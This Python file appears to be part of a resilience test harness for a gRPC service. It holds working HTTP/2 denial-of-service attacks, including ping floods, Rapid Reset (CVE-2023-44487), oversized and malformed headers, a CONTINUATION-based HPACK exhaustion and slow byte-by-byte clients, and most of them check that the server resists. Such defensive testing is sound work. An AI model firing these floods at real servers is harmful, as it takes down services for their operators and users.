"""HTTP/2 frames in numbers and orders that no client sends."""

import random
import struct
import time

from harness.fault import Attack, count
from harness.h2 import (CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM,
                        SETTINGS, Answer, encode_plainly, frame, grpc_message, integer, request_headers)

CONVOLVE = "/tensord.v1.TensorService/Convolve"


class Pings(Attack):
    name = "pings"
    what = "1000 pings on a connection without calls"
    most_rss_mib = 2
    most_cpu_seconds = 0.5

    def attack(self, context):
        connection = context.connect()
        connection.pump(0.5)
        sent = 0
        while sent < 1000 and connection.send(frame(PING, 0, 0, bytes(8))):
            sent += 1
            # One after the other: what the daemon reads at once it answers at once, strikes or not.
            for _ in range(50):
                if connection.ping_acks >= sent or connection.goaway is not None:
                    break
                connection.pump(0.001)
        connection.pump(0.5)
        self.goaway, self.acks = connection.goaway, connection.ping_acks
        return f"{sent} sent, {self.acks} answered, goodbye code {self.goaway}"

    def expect(self, context, row):
        if row.door == "direct" and (self.goaway != 11 or self.acks > 5):
            row.problems.append("expected GOAWAY 11 (enhance your calm) after two strikes")


class PingFlood(Attack):
    name = "ping_flood"
    what = "4 connections, 10000 pings on each in one write, and nothing read"
    # Each ping too many is an error, and gRPC adds it to the one that ends the connection: 69 MiB for each of these
    # connections, where nothing bounds that.
    most_rss_mib = 16
    most_cpu_seconds = 2

    def attack(self, context):
        opened = [context.connect() for _ in range(4)]
        for connection in opened:
            connection.pump(0.2)
        for connection in opened:
            connection.send(frame(PING, 0, 0, bytes(8)) * 10000)
        time.sleep(1)
        for connection in opened:
            while connection.goaway is None and connection.pump(0.5):
                pass
        self.goaways = [connection.goaway for connection in opened]
        return f"{sum(connection.ping_acks for connection in opened)} answered, goodbye codes {count(self.goaways)}"

    def expect(self, context, row):
        if row.door == "direct" and set(self.goaways) != {11}:
            row.problems.append("expected GOAWAY 11 (enhance your calm)")


class UnackedStreams(Attack):
    name = "streams_without_settings_ack"
    what = "200 streams, the SETTINGS never acknowledged, so that the limit of 100 does not hold"
    most_rss_mib = 8

    def attack(self, context):
        connection = context.connect(polite=False)
        connection.send(PREFACE + frame(SETTINGS, 0, 0))
        for _ in range(200):
            connection.open_stream(CONVOLVE)
        for _ in range(10):
            connection.pump(0.1)
        ended = [a.code for a in connection.answers.values() if a.code != "no answer"]
        return f"200 opened: {200 - len(ended)} held, {count(ended) or 'none refused'}"


class RapidReset(Attack):
    name = "rapid_reset"
    what = "20000 calls, each reset at once (CVE-2023-44487)"
    # Reading the whole flood is what gRPC 1.51 does; the edge has to cut it.
    edge_most_rss_mib = 16
    edge_most_cpu_seconds = 0.5

    def attack(self, context):
        total, connection = context.scaled(20000, 5000), context.connect()
        body = grpc_message(context.bench.body)
        block = encode_plainly(request_headers(CONVOLVE))
        sent = 0
        while sent < total:
            batch = b"".join(
                frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body) +
                frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                for stream in range(2 * sent + 1, 2 * (sent + 200) + 1, 2))
            if not connection.send(batch):
                break
            sent += 200
            connection.pump(0.0001)
        time.sleep(0.5)
        self.threads = context.daemon.sample().threads
        cancelled = sum(value for name, value in context.daemon.metrics().items()
                        if name.startswith("tensord_rpc_requests_total") and 'code="CANCELLED"' in name)
        return (f"{sent} sent; {'connection closed' if connection.closed else 'connection held'}, {self.threads} "
                f"threads in the daemon, {cancelled:.0f} calls counted as CANCELLED")

    def expect(self, context, row):
        if self.threads > 100:
            row.problems.append(f"{self.threads} threads")


class GiantHeaders(Attack):
    name = "giant_headers"
    what = "calls with one header of 8 KiB, of 70 KB, and 100 of 1 KiB; before and after the SETTINGS are acknowledged"
    most_rss_mib = 4
    most_cpu_seconds = 1

    def attack(self, context):
        codes = {False: [], True: []}
        for acked, extra in ((acked, extra) for acked in codes for extra in (
                [("x-long", "a" * 8192)], [("x-long", "a" * 70000)], [(f"x-{i}", "a" * 1024) for i in range(100)])):
            connection = context.connect()
            while acked and connection.pump(0.2):
                pass
            connection.answers[1] = Answer()
            block = encode_plainly(request_headers(CONVOLVE, extra))
            parts = [block[at:at + 16384] for at in range(0, len(block), 16384)]
            for index, part in enumerate(parts):
                last = END_HEADERS if index == len(parts) - 1 else 0
                connection.send(frame(CONTINUATION if index else HEADERS, last, 1, part))
            connection.send(frame(DATA, END_STREAM, 1, grpc_message(context.bench.body)))
            codes[acked].append(connection.wait(1, 3).code)
        self.acked = codes[True]
        return f"8 KiB, 70 KB, 100 x 1 KiB: {', '.join(codes[True])}; not acknowledged: {', '.join(codes[False])}"

    def expect(self, context, row):
        # gRPC 1.51 holds a client to the limit only after it has acknowledged it; the edge always does.
        if "OK" in self.acked:
            row.problems.append("headers over 8 KiB have to be refused")


PIECE = 4096
MOST_SECONDS = 20


class HpackString(Attack):
    name = "hpack_string"
    what = "one header string trickled over CONTINUATION frames, 15 MiB (CVE-2023-33953)"
    edge_most_rss_mib = 1
    edge_most_cpu_seconds = 0.1

    def attack(self, context):
        connection = context.connect()
        connection.pump(0.2)
        total = context.scaled(15 << 20, 3 << 20)
        block = encode_plainly(request_headers(CONVOLVE)) + b"\x00" + integer(5, 7) + b"x-big" + integer(total, 7)
        connection.send(frame(HEADERS, 0, 1, block))
        piece, sent, start = b"a" * PIECE, 0, time.monotonic()
        frames = frame(CONTINUATION, 0, 1, piece) * 16
        # What is sent is parsed again from its start with every frame: the longer, the slower.
        while sent < total and time.monotonic() < start + MOST_SECONDS and connection.send(frames):
            sent += 16 * len(piece)
            connection.pump(0.0001)
        return (f"{sent / (1 << 20):.1f} of {total >> 20} MiB sent in frames of {PIECE} bytes, "
                f"{'cut off' if connection.closed else 'all taken'}")


class Garbage(Attack):
    name = "garbage_preface"
    what = "300 connections that send noise, HTTP/1.1, half a preface, or wrong frames"
    most_rss_mib = 4

    def attack(self, context):
        noise = random.Random(1)
        openings = [noise.randbytes(1000), b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n", PREFACE[:10] + b"\0" * 50,
                    PREFACE + noise.randbytes(2000), PREFACE + frame(DATA, 0, 1, b"x") * 5,
                    PREFACE + frame(SETTINGS, 0, 0, b"odd"), PREFACE + b"\xff\xff\xff\x00\x00\x00\x00\x00\x01",
                    PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 2, b"\xff\xff\xff\xff\xff\xff\xff"),
                    PREFACE + frame(SETTINGS, 0, 0) + frame(8, 0, 0, b"\x7f\xff\xff\xff") * 4,
                    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + noise.randbytes(300)]
        closed = 0
        for index in range(300):
            connection = context.connect(polite=False)
            connection.send(openings[index % len(openings)])
            while connection.pump(0.01):
                pass
            closed += connection.closed
        return f"300 connections, {closed} closed by the server at once"


class HostileHeaders(Attack):
    name = "hostile_headers"
    what = "te: x, :scheme: x, grpclb_client_stats (CVE-2023-1428), bad base64 in -bin, odd deadlines and encodings"
    most_rss_mib = 4

    def attack(self, context):
        long = "b" * 9000
        variants = [
            [("te", "x")], [(":scheme", "x")], [("te", "x"), ("x-long", long)], [(":scheme", "x"), ("x-long", long)],
            [("grpclb_client_stats", "x"), ("x-long", long)], [("bad-bin", "!!!not base64!!!")], [("bad-bin", "=")],
            [("grpc-trace-bin", "%%%")], [("grpc-tags-bin", "?")], [("grpc-timeout", "-1S")], [("grpc-timeout", "x")],
            [("grpc-timeout", "99999999999H")], [("grpc-encoding", "nonsense")], [("content-type", "text/html")],
            [(":method", "GET")], [(":method", "DELETE")], [(":path", "")], [(":path", "/")],
            [(":path", "/" + "a" * 2000)], [(":authority", "\x00")], [("x-name with spaces", "y")], [("", "y")],
            [("X-Upper", "y")], [("connection", "close")], [("x-newline", "a\nb\r\nc")], [(":status", "200")],
            [("x-utf", "\xff\xfe")], [("grpc-timeout", "0n")],
        ]
        self.codes = []
        for extra in variants * context.scaled(5, 2):
            connection = context.connect()
            # Plain bytes: hpack's encoder would not write some of these.
            connection.answers[1] = Answer()
            connection.send(frame(HEADERS, END_HEADERS, 1, encode_plainly(request_headers(CONVOLVE, extra))) +
                            frame(DATA, END_STREAM, 1, grpc_message(context.bench.body)))
            self.codes.append(connection.wait(1, 1).code)
            connection.close()
        return f"{len(variants)} variants: {count(self.codes)}"


class ByteByByte(Attack):
    name = "byte_by_byte"
    what = "20 clients that write a good call one byte at a time"
    most_rss_mib = 8

    def attack(self, context):
        block = encode_plainly(request_headers(CONVOLVE))
        wire = (PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, block)
                + frame(DATA, END_STREAM, 1, grpc_message(context.bench.body)))
        connections = [context.connect(polite=False) for _ in range(20)]
        for connection in connections:
            connection.answers[1] = Answer()
        for at in range(len(wire)):
            for connection in connections:
                connection.send(wire[at:at + 1])
        self.codes = [connection.wait(1, 10).code for connection in connections]
        return f"20 x {len(wire)} writes: {count(self.codes)}"

    def expect(self, context, row):
        if set(self.codes) != {"OK"}:
            row.problems.append(f"slow but good calls have to be answered: {count(self.codes)}")

